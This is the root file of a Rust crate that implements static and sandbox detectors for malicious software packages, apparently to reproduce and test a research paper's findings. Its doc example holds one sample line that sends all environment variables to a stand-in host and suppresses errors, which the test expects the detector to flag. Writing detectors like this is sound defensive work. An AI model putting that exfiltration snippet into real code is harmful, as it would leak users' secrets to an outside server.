//! Malicious-package detectors, and the experiment behind the paper's
//! second finding.
//!
//! The paper concludes that "today's defense tools work well because
//! malicious packages use old and known attack behaviors" (§I, §IV-C).
//! This crate makes that claim testable inside the reproduction:
//!
//! * [`rules`] — static code/metadata rules in the GuardDog style
//!   (suspicious import combinations, install-time hooks, `eval` of
//!   remote content, credential paths, typosquatting…);
//! * [`static_detector`] — a weighted-rule scanner over package code;
//! * [`dynamic`] — a sandbox detector over [`minilang::interp`] effect
//!   traces (exfiltration flows, download-and-execute chains, reverse
//!   shells…), which also *labels* the behaviour family;
//! * [`eval`] — precision/recall against the simulator's ground truth,
//!   per behaviour family — the quantified version of the paper's
//!   insight;
//! * [`cache`] — parse + lower + sandbox memoisation by source text, so
//!   the evaluation harness analyses each distinct program once however
//!   many releases carry it.
//!
//! # Examples
//!
//! ```
//! use detector::{StaticDetector, Verdict};
//! use minilang::parse;
//!
//! let code = "import os\nimport requests\n\ndef go():\n    \
//!             requests.post('http://x.xyz', os.environ())\n\ntry:\n    go()\nexcept:\n    pass\n";
//! let module = parse(code)?;
//! let verdict = StaticDetector::default().scan(&module, None);
//! assert!(verdict.malicious);
//! # Ok::<(), Box<dyn std::error::Error>>(())
//! ```

#![forbid(unsafe_code)]
#![warn(missing_docs)]

pub mod cache;
pub mod dynamic;
pub mod eval;
pub mod rules;
pub mod static_detector;

pub use cache::SandboxCache;
pub use dynamic::{BehaviorLabel, DynamicDetector};
pub use eval::{evaluate_world, evaluate_world_cached, DetectionReport};
pub use rules::RuleId;
pub use static_detector::{StaticDetector, Verdict};
